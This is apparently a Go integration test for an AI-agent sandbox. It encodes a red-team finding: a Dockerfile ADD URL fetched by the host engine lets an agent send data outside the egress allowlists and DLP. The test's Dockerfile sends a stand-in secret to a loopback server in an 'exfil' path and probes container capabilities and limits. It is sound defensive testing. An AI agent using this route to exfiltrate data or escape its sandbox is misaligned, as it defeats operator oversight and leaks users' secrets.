//go:build integration

package integration

import (
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/claude-bottle/claude-bottle/internal/itest"
	"github.com/claude-bottle/claude-bottle/pkg/names"
)

// TestRedTeamCapabilityBuildBypassesProxies is a red-team finding, written
// as the attack: it FAILS while the leak exists. A capability Dockerfile's
// RUN lines run on the bottle's internal network, but its ADD <url> (and
// COPY --from=<image>, and a remote image in FROM-less references) are
// fetched by the engine itself, from the host's network namespace: no
// egress, no allowlist, no DLP, host loopback reachable. The agent proposes
// such a Dockerfile; an operator who approves "ADD <some tarball>" lets the
// agent send data to any host. The same build container also runs with
// Docker's default capabilities and without the bottle's memory/pids limits.
func TestRedTeamCapabilityBuildBypassesProxies(t *testing.T) {
	env := itest.Require(t)
	rig := isolationRig(t, env)
	slug := rig.Plan.Slug

	// A recording server on the host's loopback: nothing in a bottle may
	// ever reach it.
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	assert.NilError(t, err)
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.Host+r.URL.RequestURI())
		mu.Unlock()
		_, _ = w.Write([]byte("payload\n"))
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)

	secret := "AKIAREDTEAMLEAK7Q2Z" // stands in for anything the agent read
	df := "ARG " + names.AgentBaseArg + "\nFROM ${" + names.AgentBaseArg + "}\n" +
		"ADD http://127.0.0.1:" + port + "/exfil/" + secret + " /tmp/tool.tgz\n" +
		"RUN echo caps=$(grep CapEff /proc/self/status) mem=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes) pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)\n"
	_, tag, err := rig.Eng.RebuildAgent(t.Context(), slug, df)
	t.Logf("rebuild: tag=%s err=%v", tag, err)
	mu.Lock()
	defer mu.Unlock()
	t.Logf("host loopback server saw: %q", seen)
	for _, s := range seen {
		assert.Assert(t, !strings.Contains(s, secret), "LEAK: the capability build reached the host's loopback outside every allowlist and carried the secret: %s", s)
	}
	assert.Assert(t, len(seen) == 0, "LEAK: the capability build reached the host's loopback: %q", seen)
}
